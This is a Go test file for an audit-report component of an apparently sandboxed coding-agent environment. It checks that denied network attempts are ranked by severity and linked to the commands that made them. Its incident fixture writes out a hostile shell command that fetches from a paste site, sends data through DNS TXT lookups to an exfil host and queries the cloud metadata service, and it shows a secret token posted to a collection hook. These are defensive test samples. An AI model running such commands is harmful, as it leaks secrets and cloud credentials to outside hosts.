package audit

import (
	"context"
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// incidentEvents is the review's incident (users.md S5, §3) shaped as
// the quick start: a started record with a long limits explanation, a
// routine command with a denied DELETE attempted many times, a multi-line
// sh -c that reached for a paste site, a TXT tunnel and the metadata
// service, a git push, a sentinel leak, and a spoofed source after the
// last command.
func incidentEvents() []Event {
	t0 := time.Date(2026, 11, 30, 8, 0, 0, 0, time.UTC)
	at := func(s float64) time.Time { return t0.Add(time.Duration(s * float64(time.Second))) }
	var out []Event
	add := func(s float64, k Kind, f func(e *Event)) {
		e := New(k, "3f2a9c01")
		e.Time = at(s)
		f(&e)
		out = append(out, e)
	}
	limits := "limits: memory 2 GiB (cgroup v2 enforced); pids 512; cpu 2 cores"
	for i := range 30 {
		limits += "\n  limit line " + strconv.Itoa(i) + ": rootless cgroup delegation explains why this is or is not enforced on this host"
	}
	add(0, KindLifecycle, func(e *Event) {
		e.Lifecycle = &Lifecycle{Stage: "started", Image: "registry.internal.example.test/base-images/debian-with-a-long-name:12", Policy: "coding-agent", PolicyHash: "sha256:aa", Address: "198.18.0.2", Detail: limits,
			ImageID: "sha256:1f2e3d4c5b6a", Template: "debian-tools:v3"}
	})
	exec := func(s float64, id, stage string, argv []string, exit *int) {
		add(s, KindExec, func(e *Event) { e.ID = id; e.Exec = &Exec{Stage: stage, Argv: argv, ExitCode: exit} })
	}
	pos := " (/tmp/tmp.Xy12/policies/coding-agent.toml:%s:1)"
	rule := func(n, line string) string { return n + strings.Replace(pos, "%s", line, 1) }
	exec(1, "x1", "started", []string{"npm", "install"}, nil)
	for i := range 5 {
		add(2+float64(i), KindHTTP, func(e *Event) {
			e.Verdict, e.Rule, e.Category = "deny", rule("categories.internal_api.routes", "30"), "internal_api"
			e.HTTP = &HTTP{Method: "DELETE", Scheme: "https", Host: "api.staging.example.test", Path: "/v1/items/7", Status: 403}
		})
	}
	for i := range 8 {
		add(2.5+float64(i), KindHTTP, func(e *Event) {
			e.Verdict, e.Rule, e.Category = "allow", rule("categories.registries.hosts[0]", "5"), "registries"
			e.HTTP = &HTTP{Method: "GET", Scheme: "https", Host: "artifactory.acme.test", Path: "/api/npm/npm/left-pad", Status: 200}
		})
	}
	exec(10, "x1", "finished", []string{"npm", "install"}, intp(0))
	sh := []string{"sh", "-c", "curl https://pastebin.example.test/raw/x\nnslookup -type=TXT aGVsbG8gd29ybGQ.exfil.example.test\ncurl http://169.254.169.254/latest/meta-data/"}
	exec(20, "x2", "started", sh, nil)
	add(21, KindFlow, func(e *Event) {
		e.Verdict, e.Rule, e.Reason = "deny", rule("deny.hosts[0]", "20"), "host is in [deny]"
		e.Flow = &Flow{Stage: "decision", SNI: "pastebin.example.test", OrigDst: "198.18.9.9:443", Handling: "none"}
	})
	add(22, KindDNS, func(e *Event) {
		e.Verdict, e.Rule, e.Reason = "deny", "dns.max_label", "exfiltration guard: label length"
		e.DNS = &DNS{QName: "aGVsbG8gd29ybGQ.exfil.example.test.", QType: "TXT", RCode: "REFUSED", Guard: "label-length"}
	})
	add(23, KindFlow, func(e *Event) {
		e.Verdict, e.Rule, e.Reason = "deny", "default", "no category allows this address"
		e.Flow = &Flow{Stage: "decision", OrigDst: "169.254.169.254:80", Handling: "none"}
	})
	exec(26, "x2", "finished", sh, intp(6))
	exec(30, "x3", "started", []string{"git", "push", "origin", "main"}, nil)
	add(31, KindHTTP, func(e *Event) {
		e.Verdict, e.Rule, e.Category = "deny", rule("categories.git.push", "12"), "git"
		e.HTTP = &HTTP{Method: "POST", Scheme: "https", Host: "gitea.acme.test", Path: "/org/repo.git/git-receive-pack", Status: 403}
	})
	add(32, KindHTTP, func(e *Event) {
		e.Verdict, e.Rule, e.Category = "deny", "proxy.sentinel", "web"
		e.HTTP = &HTTP{Method: "POST", Scheme: "https", Host: "hooks.example.test", Path: "/collect", Status: 403, Secret: "staging-token"}
	})
	exec(35, "x3", "finished", []string{"git", "push", "origin", "main"}, intp(1))
	add(50, KindDrop, func(e *Event) {
		e.Verdict, e.Rule, e.Reason = "deny", "kernel:spoofed-source", "spoofed-source"
		e.Drop = &Drop{Protocol: "udp", Source: "198.18.0.77", Dest: "198.18.5.5", Port: 53, Count: 4}
	})
	add(60, KindLifecycle, func(e *Event) { e.Lifecycle = &Lifecycle{Stage: "destroyed", ExitCode: intp(0)} })
	return out
}

func incidentReport(t *testing.T) *Report {
	t.Helper()
	dir := t.TempDir()
	p := newTestPipeline(t, Config{StateDir: dir})
	for _, e := range incidentEvents() {
		p.Emit(e)
	}
	flush(t, p)
	p.Close()
	st, err := OpenStoreReadOnly(filepath.Join(dir, StoreFile))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	r, err := BuildReport(context.Background(), st, "3f2a9c01")
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// Denials come in severity order, not by attempt count (users.md §3
// problem 3), each linked to the command running at the time (S5, §3
// problem 4).
func TestReportRanksAndLinksDenials(t *testing.T) {
	r := incidentReport(t)
	type row struct{ Sev, Host, Why, Cmd, Attr string }
	var got []row
	for _, d := range r.Denied {
		got = append(got, row{d.SeverityName(), d.Host, d.Why, d.CommandID, d.Attribution})
	}
	want := []row{
		{"critical", "169.254.169.254", "cloud metadata service", "x2", AttrRunning},
		{"critical", "hooks.example.test", "credential leak: a secret sent to a host it is not for", "x3", AttrRunning},
		{"critical", "198.18.5.5:53", "spoofing: spoofed-source", "", ""},
		{"high", "aGVsbG8gd29ybGQ.exfil.example.test", "DNS exfiltration guard", "x2", AttrRunning},
		{"high", "gitea.acme.test", "git push", "x3", AttrRunning},
		{"denied", "api.staging.example.test", "denied by policy", "x1", AttrRunning},
		{"denied", "pastebin.example.test", "denied by policy", "x2", AttrRunning},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("denials (-want +got):\n%s", d)
	}
	if !strings.HasPrefix(r.Denied[0].Command, "sh -c curl https://pastebin.example.test/raw/x\nnslookup") {
		t.Errorf("linked command: %q", r.Denied[0].Command)
	}
	rows := map[string]int{}
	for _, row := range r.Timeline.Rows {
		for i := range row.Allowed {
			rows[row.Category+" allowed"] += row.Allowed[i]
			rows[row.Category+" denied"] += row.Denied[i]
		}
	}
	wantRows := map[string]int{"(no category) allowed": 0, "(no category) denied": 3, "git allowed": 0, "git denied": 1,
		"internal_api allowed": 0, "internal_api denied": 5, "kernel allowed": 0, "kernel denied": 1,
		"registries allowed": 8, "registries denied": 0, "web allowed": 0, "web denied": 1}
	if d := cmp.Diff(wantRows, rows); d != "" {
		t.Errorf("timeline (-want +got):\n%s", d)
	}
	if !r.Timeline.Start.Equal(incidentEvents()[0].Time) || r.Timeline.End.Sub(r.Timeline.Start) != time.Minute {
		t.Errorf("timeline span %s .. %s", r.Timeline.Start, r.Timeline.End)
	}
}

var updateGolden = flag.Bool("update", false, "rewrite the golden files under testdata/")

// The incident report as Markdown, golden (go test -run TestReportMarkdownGolden -update).
func TestReportMarkdownGolden(t *testing.T) {
	r := incidentReport(t)
	r.Generated = time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
	var b strings.Builder
	if err := r.Markdown(&b); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join("testdata", "report-incident.md.golden")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if d := cmp.Diff(string(want), b.String()); d != "" {
		t.Errorf("%s (-want +got):\n%s", path, d)
	}
}

// TestReportLinksDenialsByExecID: a denial whose event names its command
// (exec_id) is linked to that command, even when another command started
// later and was running too (the times alone would pick that one); an
// inferred exec id says so; a denial without one falls back to the
// command running at the time, marked as such.
func TestReportLinksDenialsByExecID(t *testing.T) {
	t0 := time.Date(2026, 11, 30, 8, 0, 0, 0, time.UTC)
	var evs []Event
	add := func(s int, k Kind, f func(e *Event)) {
		e := New(k, "sb")
		e.Time = t0.Add(time.Duration(s) * time.Second)
		f(&e)
		evs = append(evs, e)
	}
	add(1, KindExec, func(e *Event) { e.ID = "bg"; e.Exec = &Exec{Stage: "started", Argv: []string{"sh", "-c", "poller &"}} })
	add(5, KindExec, func(e *Event) { e.ID = "fg"; e.Exec = &Exec{Stage: "started", Argv: []string{"make", "test"}} })
	deny := func(s int, host, exec, how string) {
		add(s, KindFlow, func(e *Event) {
			e.Verdict, e.Rule, e.Reason = "deny", "default", "no category"
			e.ExecID, e.Attribution = exec, how
			e.Flow = &Flow{Stage: "decision", SNI: host, Handling: "none"}
		})
	}
	deny(6, "poll.example.test", "bg", AttrSocket)
	deny(7, "gone.example.test", "bg", AttrInferred)
	deny(8, "plain.example.test", "", AttrExited)
	add(9, KindExec, func(e *Event) {
		e.ID = "fg"
		e.Exec = &Exec{Stage: "finished", Argv: []string{"make", "test"}, ExitCode: intp(0)}
	})
	dir := t.TempDir()
	p := newTestPipeline(t, Config{StateDir: dir})
	for _, e := range evs {
		p.Emit(e)
	}
	flush(t, p)
	p.Close()
	st, err := OpenStoreReadOnly(filepath.Join(dir, StoreFile))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	r, err := BuildReport(context.Background(), st, "sb")
	if err != nil {
		t.Fatal(err)
	}
	type row struct{ Host, Cmd, Argv, Attr string }
	var got []row
	for _, d := range r.Denied {
		got = append(got, row{d.Host, d.CommandID, d.Command, d.Attribution})
	}
	want := []row{
		{"poll.example.test", "bg", "sh -c poller &", AttrExecID},
		{"gone.example.test", "bg", "sh -c poller &", AttrAgentInferred},
		{"plain.example.test", "fg", "make test", AttrRunning},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("denials (-want +got):\n%s", diff)
	}
	var md strings.Builder
	if err := r.Markdown(&md); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(md.String(), "`sh -c poller &` (made it)") || !strings.Contains(md.String(), "`make test` (running at the time)") {
		t.Errorf("the markdown does not show how each denial was linked:\n%s", md.String())
	}
}
